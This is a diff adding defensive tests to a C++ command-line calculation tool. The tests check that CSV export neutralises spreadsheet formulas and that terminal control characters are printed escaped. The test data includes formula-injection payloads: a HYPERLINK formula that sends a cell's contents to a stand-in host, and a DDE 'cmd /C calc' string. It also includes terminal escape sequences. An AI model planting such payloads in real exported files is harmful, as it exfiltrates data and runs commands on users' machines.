@@ -22,8 +22,12 @@
 #include <cstdlib>
 #include <limits>
 
+#include <fcntl.h>
 #include <sys/resource.h>
+#include <sys/socket.h>
 #include <sys/stat.h>
+#include <sys/un.h>
+#include <unistd.h>
 
 using namespace pelmora;
 
@@ -107,10 +111,11 @@ struct Salida {
 // so that a run that grows without end fails soon instead of filling the
 // machine.
 Salida ejecutar(const QStringList &args, const QString &idioma = "es_ES.UTF-8", int espera = 60000,
-                rlim_t memoria = 0)
+                rlim_t memoria = 0, const QString &carpeta = QString())
 {
     asegurarAplicacion();
     QProcess p;
+    p.setWorkingDirectory(carpeta);
     if (memoria > 0) {
         p.setChildProcessModifier([memoria] {
             const struct rlimit limite = {memoria, memoria};
@@ -190,7 +195,8 @@ TEST(calculoJson, FormaTiposYEscapes)
 {
     Calculo c;
     Columna &s = c.columnaParaPruebas(Col::S);
-    const QString raro = QString::fromUtf8("Autocar \"Gran Turismo\" \\ nº 5 — ñandú\t€\n\x01 fin 😀");
+    const QString raro =
+        QString::fromUtf8("Autocar \"Gran Turismo\" \\ nº 5 — ñandú\t€\n\x01 fin 😀\x7f\xc2\x9b");
     s(Seccion::Caracteristicas, 1) = Valor(raro);
     s(Seccion::Caracteristicas, 7) = Valor(QString());   // empty text, not null
     s(Seccion::Caracteristicas, 2) = Valor(55);
@@ -249,6 +255,7 @@ TEST(calculoJson, FormaTiposYEscapes)
     EXPECT_TRUE(json.contains("\"Caracteristicas\": [\"Autocar"));
     EXPECT_TRUE(json.contains(", 55, "));
     EXPECT_TRUE(json.contains(QString::fromUtf8("ñandú\\t€\\n\\u0001").toUtf8()));
+    EXPECT_TRUE(json.contains("\\u007f\\u009b\"")); // DEL and C1 too
     EXPECT_TRUE(json.contains("\\\"Gran Turismo\\\" \\\\ "));
     EXPECT_FALSE(json.contains("inf"));
     EXPECT_FALSE(json.contains("nan"));
@@ -314,7 +321,11 @@ TEST(PelmoraCalc, AyudaYUsoIncorrecto)
           QStringList{"--sensibilidad=0", kReferencia}, QStringList{"--sensibilidad=100", kReferencia},
           QStringList{"--sensibilidad=-5", kReferencia}, QStringList{"--sensibilidad=", kReferencia},
           QStringList{"--sensibilidad=diez", kReferencia}, QStringList{"--sensibilidad=nan", kReferencia},
-          QStringList{"--sensibilidad=10%", kReferencia}, QStringList{"--sensibilidad"}}) {
+          QStringList{"--sensibilidad=10%", kReferencia}, QStringList{"--sensibilidad"},
+          QStringList{"--sensibilidad=1e-300", kReferencia}, QStringList{"--sensibilidad=1e1", kReferencia},
+          QStringList{"--sensibilidad=2.125", kReferencia}, QStringList{"--sensibilidad= 5", kReferencia},
+          QStringList{"--sensibilidad=5", "--sensibilidad=6", kReferencia},
+          QStringList{"--sensibilidad", "--sensibilidad", kReferencia}}) {
         const Salida s = ejecutar(args);
         EXPECT_EQ(s.codigo, 64) << args.join(' ').toStdString();
         EXPECT_TRUE(s.err.contains("Uso: pelmora-calc")) << s.err.toStdString();
@@ -627,6 +638,196 @@ TEST(PelmoraCalc, CsvDeVariosArchivosConErrores)
     EXPECT_EQ(uno.outBytes.count("\r\n"), 2);
 }
 
+namespace {
+
+// The cells of a CSV document as a spreadsheet splits them: quoted fields
+// (a doubled quote inside for one quote), sep between fields, CR LF lines.
+std::vector<QStringList> celdasCsv(const QString &texto, QChar sep)
+{
+    std::vector<QStringList> filas(1);
+    QString celda;
+    bool dentro = false;
+    for (qsizetype k = 0; k < texto.size(); ++k) {
+        const QChar c = texto[k];
+        if (dentro && c == '"' && k + 1 < texto.size() && texto[k + 1] == '"')
+            celda += c, ++k;
+        else if (c == '"')
+            dentro = !dentro;
+        else if (!dentro && (c == sep || c == '\r')) {
+            filas.back() << celda;
+            celda.clear();
+            if (c == '\r')
+                filas.emplace_back(), ++k; // and its LF
+        } else
+            celda += c;
+    }
+    filas.pop_back(); // after the last line end
+    return filas;
+}
+
+// A calculation file with another description.
+QByteArray conDescripcion(const QByteArray &archivo, const QString &descripcion)
+{
+    return '"' + aWindows1252(descripcion).replace('"', "\"\"") + '"' + archivo.mid(archivo.indexOf("\r\n"));
+}
+
+} // namespace
+
+TEST(PelmoraCalc, CsvMuestraComoTextoLoQueEmpiezaComoUnaFormula)
+{
+    QTemporaryDir dir;
+    const QString descripciones[] = {"=HYPERLINK(\"http://x.example/?x=\"&A1;\"Pulse\")", "=SUM(10;20)",
+                                     "=cmd|' /C calc'!A0", "+34", "-1", "@A1", "\t=1"};
+    QStringList nombres;
+    for (int k = 0; k < int(std::size(descripciones)); ++k) {
+        nombres << QString("=1+%1.clc").arg(k);
+        ASSERT_TRUE(escribirArchivo(dir.filePath(nombres.back()), conDescripcion(leer(kReferencia), descripciones[k])));
+    }
+    const Salida s = ejecutar(QStringList{"--csv"} + nombres, "en_US.UTF-8", 60000, 0, dir.path());
+    ASSERT_EQ(s.codigo, 0) << s.err.toStdString();
+    const std::vector<QStringList> filas = celdasCsv(s.out.mid(1), ',');
+    const QStringList normal = celdasCsv(QString::fromUtf8(ejecutar({"--csv", kReferencia}, "en_US.UTF-8").outBytes)
+                                             .mid(1), ',')[1];
+    ASSERT_EQ(filas.size(), std::size(descripciones) + 1) << s.out.toStdString();
+    for (int k = 0; k < int(std::size(descripciones)); ++k) {
+        const QStringList &f = filas[size_t(k) + 1];
+        EXPECT_EQ(f[0], "'" + nombres[k]);
+        EXPECT_EQ(f[1], "'" + descripciones[k]);
+        EXPECT_EQ(f.mid(2), normal.mid(2)) << k; // the figures as they are, as numbers
+    }
+}
+
+TEST(PelmoraCalc, LosCaracteresDeControlDeUnTextoSeVenEnLugarDeActuar)
+{
+    QTemporaryDir dir;
+    const QString ruta = dir.filePath("a\x1b[31m.clc");
+    // Sets the terminal's title, rings, clears the screen; a C1 control.
+    const QString descripcion = QString::fromUtf8("\x1b]0;x\x07\x1b[2J\x7f\xc2\x81 fin");
+    ASSERT_TRUE(escribirArchivo(ruta, conDescripcion(leer(kReferencia), descripcion)));
+    const QStringList ordenes[] = {{ruta}, {"--sensibilidad", ruta}, {ruta, dir.filePath("falta\x07.clc")}};
+    for (const QStringList &args : ordenes) {
+        SCOPED_TRACE(args.join(' ').toStdString());
+        const Salida s = ejecutar(args);
+        EXPECT_TRUE(s.out.contains("Autocar: \\x1b]0;x\\x07\\x1b[2J\\x7f\\x81 fin\n")) << s.out.toStdString();
+        EXPECT_TRUE(s.out.contains("Archivo: " + dir.filePath("a\\x1b[31m.clc\n")));
+        for (const QChar c : s.out)
+            ASSERT_TRUE(c == '\n' || (c >= ' ' && c != QChar(0x7F) && (c < QChar(0x80) || c > QChar(0x9F))))
+                << int(c.unicode());
+    }
+}
+
+namespace {
+
+// A folder with one entry of each kind a scan may meet: good files (one
+// named in bytes that are not UTF-8), a pipe, a socket, a dangling link and
+// a link loop named *.clc, a folder that cannot be read, and a file whose
+// path is longer than the system takes.
+struct FlotaRara {
+    FlotaRara()
+    {
+        const QByteArray bueno = leer(kReferencia);
+        EXPECT_TRUE(escribir("a.clc", bueno));
+        EXPECT_TRUE(escribir("b\xff.clc", bueno));
+        EXPECT_EQ(::mkfifo(en("c tuberia.clc"), 0644), 0);
+        sockaddr_un direccion{};
+        direccion.sun_family = AF_UNIX;
+        std::strncpy(direccion.sun_path, en("d enchufe.clc").constData(), sizeof direccion.sun_path - 1);
+        enchufe = ::socket(AF_UNIX, SOCK_STREAM, 0);
+        EXPECT_EQ(::bind(enchufe, reinterpret_cast<sockaddr *>(&direccion), sizeof direccion), 0);
+        EXPECT_EQ(::symlink("nada", en("e roto.clc")), 0);
+        EXPECT_EQ(::symlink("f bucle.clc", en("f bucle.clc")), 0);
+        EXPECT_EQ(::mkdir(en("g cerrada"), 0755), 0);
+        EXPECT_TRUE(escribir("g cerrada/dentro.clc", bueno));
+        EXPECT_EQ(::chmod(en("g cerrada"), 0), 0);
+        EXPECT_EQ(::mkdir(en("h"), 0755), 0);
+        int fd = ::open(en("h"), O_RDONLY | O_DIRECTORY);
+        const QByteArray largo(250, 'x');
+        for (int k = 0; k < 17; ++k) { // 17 x 251 bytes
+            EXPECT_EQ(::mkdirat(fd, largo.constData(), 0755), 0);
+            const int dentro = ::openat(fd, largo.constData(), O_RDONLY | O_DIRECTORY);
+            ::close(fd);
+            fd = dentro;
+        }
+        const int f = ::openat(fd, "x.clc", O_WRONLY | O_CREAT, 0644);
+        EXPECT_EQ(::write(f, bueno.constData(), size_t(bueno.size())), bueno.size());
+        ::close(f);
+        ::close(fd);
+        ::chmod(QFile::encodeName(dir.path()).constData(), 0755); // for another user to read
+    }
+    ~FlotaRara()
+    {
+        ::close(enchufe);
+        ::chmod(en("g cerrada"), 0755);
+        QProcess::execute("rm", {"-rf", dir.path()}); // the long path too
+    }
+    QByteArray en(const char *nombre) const { return QFile::encodeName(dir.path()) + '/' + nombre; }
+    bool escribir(const char *nombre, const QByteArray &b) const
+    {
+        const int fd = ::open(en(nombre), O_WRONLY | O_CREAT | O_TRUNC, 0644);
+        const bool bien = fd >= 0 && ::write(fd, b.constData(), size_t(b.size())) == b.size();
+        ::close(fd);
+        return bien;
+    }
+    QTemporaryDir dir;
+    int enchufe = -1;
+};
+
+// pelmora-calc run through the shell, so that its arguments reach it as
+// bytes (printf escapes in the last one); as another user when run as root,
+// for whom a folder without permissions cannot be read.
+Salida ejecutarEnBytes(const QStringList &args, const QString &ultimoEnPrintf)
+{
+    asegurarAplicacion();
+    QProcess p;
+    if (::geteuid() == 0)
+        p.setChildProcessModifier([] {
+            if (::setgid(65534) != 0 || ::setuid(65534) != 0)
+                ::_exit(99);
+        });
+    QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
+    env.insert("LC_ALL", "C.UTF-8");
+    env.insert("ULTIMO", ultimoEnPrintf);
+    p.setProcessEnvironment(env);
+    p.start("/bin/sh", QStringList{"-c", "exec \"$0\" \"$@\" \"$(printf \"$ULTIMO\")\"", kPrograma} + args);
+    Salida s;
+    p.waitForFinished(60000);
+    s.codigo = p.exitStatus() == QProcess::NormalExit ? p.exitCode() : -1;
+    s.outBytes = p.readAllStandardOutput();
+    s.out = QString::fromUtf8(s.outBytes);
+    s.err = QString::fromUtf8(p.readAllStandardError());
+    return s;
+}
+
+} // namespace
+
+TEST(PelmoraCalc, UnaCarpetaDaUnaFilaPorCadaEntradaClcYPorCadaCarpetaQueNoSeLee)
+{
+    FlotaRara f;
+    const Salida s = ejecutarEnBytes({"--csv", f.dir.path()}, f.dir.path() + "/b\\377.clc");
+    EXPECT_EQ(s.codigo, 2);
+    const std::vector<QStringList> filas = celdasCsv(s.out.mid(1), ',');
+    const QString autocar = QString::fromUtf8("Autocar estándar de más de 55 plazas");
+    const QString acceso = mensajeErrorArchivo(ErrorArchivo::AccesoDenegado);
+    // After the heading, in path order; then the file named.
+    const QString motivos[] = {autocar, autocar, acceso, acceso, mensajeErrorArchivo(ErrorArchivo::NoEncontrado),
+                               mensajeErrorArchivo(ErrorArchivo::BucleDeEnlaces), acceso,
+                               mensajeErrorArchivo(ErrorArchivo::RutaDemasiadoLarga), autocar};
+    ASSERT_EQ(filas.size(), std::size(motivos) + 1) << s.out.toStdString() << s.err.toStdString();
+    for (size_t k = 0; k < std::size(motivos); ++k)
+        EXPECT_EQ(filas[k + 1][1], motivos[k]) << k << " " << filas[k + 1][0].toStdString();
+    EXPECT_TRUE(filas[7][0].endsWith("/g cerrada"));
+    EXPECT_EQ(s.err.count('\n'), 6) << s.err.toStdString();
+
+    // A folder given that cannot be read is no folder without files.
+    const Salida cerrada = ejecutarEnBytes({"--csv"}, f.dir.path() + "/g cerrada");
+    EXPECT_EQ(cerrada.codigo, 2);
+    EXPECT_EQ(cerrada.err, f.dir.path() + "/g cerrada: " + acceso + "\n");
+    EXPECT_EQ(celdasCsv(cerrada.out.mid(1), ',').size(), 2u);
+    // A loop named on the command line is told as one.
+    EXPECT_EQ(ejecutarEnBytes({}, f.dir.path() + "/f bucle.clc").err,
+              mensajeErrorArchivo(ErrorArchivo::BucleDeEnlaces) + "\n");
+}
+
 TEST(PelmoraCalc, VariosArchivosEnJsonPorLineasYEnInformes)
 {
     Flota f;
@@ -746,7 +947,8 @@ TEST(PelmoraCalc, SensibilidadEnTablaYEnCsv)
     // A percentage out of range is named as typed.
     EXPECT_TRUE(ejecutar({"--sensibilidad=150", kReferencia})
                     .err.startsWith(QString::fromUtf8("pelmora-calc: el porcentaje de --sensibilidad debe ser un "
-                                                      "número mayor que 0 y menor que 100: \"150\"\n")));
+                                                      "número mayor que 0 y menor que 100, con dos decimales como "
+                                                      "mucho: \"150\"\n")));
 
     const Salida csv = ejecutar({"--sensibilidad=5", "--csv", kReferencia}, "en_US.UTF-8");
     ASSERT_EQ(csv.codigo, 0);
